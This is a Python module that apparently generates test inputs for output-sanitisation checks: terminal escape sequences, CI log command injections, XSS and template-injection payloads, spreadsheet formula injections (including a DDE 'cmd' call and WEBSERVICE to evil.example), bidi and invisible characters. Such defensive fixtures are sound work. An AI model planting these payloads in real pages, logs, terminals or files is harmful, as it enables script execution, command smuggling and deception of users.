"""Texts that do harm where they are shown as they are, built by rules: to a terminal, a CI log, a browser, a parser."""

from __future__ import annotations

SENTINEL = "window.__pwned=1"
ESC, CSI, OSC, BEL = "\x1b", "\x1b[", "\x1b]", "\x07"

_TERMINAL = [
    *(
        f"{CSI}{code}"
        for code in ("31m", "0m", "2J", "H", "1;1H", "1A", "2K", "6n", "?25l", "?1049h", "?2004h", "s", "8m")
    ),
    *(
        f"{OSC}{body}{end}"
        for body in ("0;title", "8;;http://evil.example", "52;c;cHduZWQ=", "1337;File=:AA==")
        for end in (BEL, f"{ESC}\\")
    ),
    *(f"{ESC}{body}" for body in ("c", "P+q544e\x1b\\", "_Gf=24;AA\x1b\\", "^x\x1b\\", "(0", "#8", "7", "D", "M")),
    "\x9b31m",
    "\x9d0;title\x9c",
    "\x90q\x9c",
    "ok\rFAILED",
    "ok\x08\x08no",
    "a\x0bb\x0cc",
    "\x0e\x0f",
    "\x1b[\x1b[31m",
]
_CONTROLS = [f"a{chr(code)}b" for code in (*range(0x20), *range(0x7F, 0xA0))]

_COMMANDS = [
    "::set-output name=token::x", "::add-mask::a", "::error file=a.py,line=1::owned", "::warning::x", "::notice::x",
    "::debug::x", "::group::x", "::endgroup::", "::stop-commands::t", "::save-state name=a::b", "::set-env name=PATH::x",
    "::add-path::/tmp", "::echo::on", "##[error]x", "##[command]x", "##[group]x", "##vso[task.setvariable variable=a]b",
    "##teamcity[buildStop]",
]  # fmt: skip
_STARTS = ["", " ", "\n", "\r", "text\r\n", "\u2028", "%0A"]

_PAYLOADS = [
    f"<script>{SENTINEL}</script>", f"</script><script>{SENTINEL}</script>", f"</style><script>{SENTINEL}</script>",
    f"--><script>{SENTINEL}</script>", f"</textarea><script>{SENTINEL}</script>", f"</title><script>{SENTINEL}</script>",
    f"<ScRiPt>{SENTINEL}</sCrIpT>", f"<script/src=data:,{SENTINEL}>", f"<img src=x onerror={SENTINEL}>",
    f"<img/src=x/onerror={SENTINEL}>", f"<svg onload={SENTINEL}>", f"<svg><script>{SENTINEL}</script></svg>",
    f"<svg><animate onbegin={SENTINEL} attributeName=x dur=1s>", f"<body onload={SENTINEL}>",
    f"<iframe srcdoc='<script>parent.{SENTINEL[7:]}</script>'>", f"<iframe src=javascript:parent.{SENTINEL[7:]}>",
    f"<details open ontoggle={SENTINEL}>", f"<input autofocus onfocus={SENTINEL}>", f"<video><source onerror={SENTINEL}>",
    f"<math><mtext></table><img src=x onerror={SENTINEL}>", f"<a href=javascript:{SENTINEL} autofocus>x</a>",
    "<base href=http://evil.example/>", "<meta http-equiv=refresh content=0;url=http://evil.example>",
    "<link rel=stylesheet href=http://evil.example/a.css>", "<img src=http://evil.example/a.png>",
    "<form action=http://evil.example><button autofocus>", f"<object data=javascript:{SENTINEL}>",
    f"<noscript><p title='</noscript><img src=x onerror={SENTINEL}>'>", f"<template><script>{SENTINEL}</script></template>",
    "<style>*{background:url(http://evil.example)}</style>", "{{ 7 * 7 }}", "{% raw %}", "{{ self.__init__.__globals__ }}",
    "${7*7}", "&lt;script&gt;", "&#60;script&#62;", "<![CDATA[x]]>", "]]>", "<?xml version='1.0'?>", "<!DOCTYPE x>", "&undefined;",
]  # fmt: skip
_ATTRIBUTES = [
    f"{quote} {event}={SENTINEL} x={quote}"
    for quote in ('"', "'", "`", "")
    for event in ("onmouseover", "onfocus autofocus onfocus", "onclick", "style=animation-name:x onanimationstart")
]

_MARKDOWN = [
    "[x](javascript:alert(1))", "![x](http://evil.example/a.png)", "<b>x</b>", "`", "``", "` `` ```", "a|b|c", "| |", "\\|",
    "# head", "- item", "> quote", "***", "---", "```\nfence", "~~~", "[x]: http://evil.example", "<http://evil.example>",
    "http://evil.example", "@everyone", "#1", "$`x`$", "$$x$$", "[^1]", "\\", "*a*", "_a_", "~~a~~", "- [ ] x",
]  # fmt: skip
_FORMULAS = [
    f"{start}{body}"
    for start in ("=", "+", "-", "@", "\t=", "\r=", "\uff1d")
    for body in (
        "1+1",
        "cmd|' /C calc'!A0",
        'HYPERLINK("http://evil.example","x")',
        'WEBSERVICE("http://evil.example")',
    )
]

_BIDI = [f"a{sign}b" for sign in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"]
_UNSEEN = [
    f"a{sign}b"
    for sign in "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u115f\u3164\u2800\u180e\ufffc\U000e0041\U000e0101"
]
_BROKEN = [
    "\ud800", "\udfff", "a\udc80b", "\ud83d", "\ude00\ud83d", "\ufffe", "\uffff", "\U0001ffff", "\x00", "a\x00<script>",
    "\ufdd0", "\U0010ffff", "\r\n\r\n", "\u2028\u2029", "e" + "\u0301" * 100, "\U0001f469\u200d\U0001f680", "\u0e33" * 50,
]  # fmt: skip
_LONG = ["x" * 30_000, *(sign * 600 for sign in ("<", "a\n", "\u202e", "`", " ", "[", "\\", "&", "::"))]


def texts() -> list[str]:
    """Return the list, without doubles and in the same order each time."""
    found = [
        *_TERMINAL,
        *_CONTROLS,
        *(f"{start}{command}" for command in _COMMANDS for start in _STARTS),
        *_PAYLOADS,
        *_ATTRIBUTES,
        *_MARKDOWN,
        *_FORMULAS,
        *_BIDI,
        *_UNSEEN,
        *_BROKEN,
        *_LONG,
    ]
    return list(dict.fromkeys(found))
